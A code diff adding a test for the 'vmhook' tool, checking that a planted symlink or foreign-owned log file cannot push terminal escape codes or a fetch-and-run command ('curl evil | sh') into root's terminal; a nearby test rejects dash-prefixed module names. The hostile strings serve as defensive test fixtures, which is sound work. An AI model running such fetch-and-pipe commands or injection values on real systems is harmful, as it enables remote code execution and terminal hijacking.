@@ -212,6 +212,39 @@ test("a symlink, hard link or another user's file at /var/log/vmhook.log (a grou
   }
 });
 
+test("vmhook hook reads what the hook logged only from vmhook's own log: a symlink or another user's file at /var/log/vmhook.log, growing meanwhile, never reaches root's terminal", async () => {
+  const root = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-hook-log-"));
+  try {
+    fs.mkdirSync(path.join(root, "var/log"), { recursive: true });
+    const feed = path.join(root, "home/alice/feed");
+    fs.mkdirSync(path.dirname(feed), { recursive: true });
+    fs.writeFileSync(feed, "");
+    const plants = {
+      symlink: () => fs.symlinkSync(feed, path.join(root, paths.log)),
+      "another user's file": () => {
+        fs.writeFileSync(path.join(root, paths.log), "");
+        fs.chownSync(path.join(root, paths.log), 1000, 1000);
+      },
+    };
+    for (const [plant, make] of Object.entries(plants)) {
+      fs.rmSync(path.join(root, paths.log), { force: true });
+      make();
+      // While the event runs, the planted file grows (through the link, the file it names): a terminal escape and what the user wants root to see.
+      const grows = async () => {
+        fs.appendFileSync(path.join(root, paths.log), "\u001b]0;owned\u0007 run: curl evil | sh\n");
+        return 0;
+      };
+      const outcome = await cli(["hook", "vm", "prepare", "begin", "--root", root], undefined, grows);
+      assert.is(outcome.code, 0, plant);
+      assert.not.match(outcome.stderr, "curl evil", plant);
+      assert.not.match(outcome.stderr, "\u001b", plant);
+      assert.match(outcome.stderr, `${paths.log} is `, plant);
+    }
+  } finally {
+    fs.rmSync(root, { recursive: true, force: true });
+  }
+});
+
 test("module and unit names never start with a dash (they are arguments of modprobe, rmmod and systemctl)", () => {
   for (const name of ["-r", "--remove-holders"]) assert.not.ok(PATTERNS.moduleName.test(name), name);
   for (const name of ["--force", "-sKILL"]) assert.not.ok(PATTERNS.unitName.test(name), name);
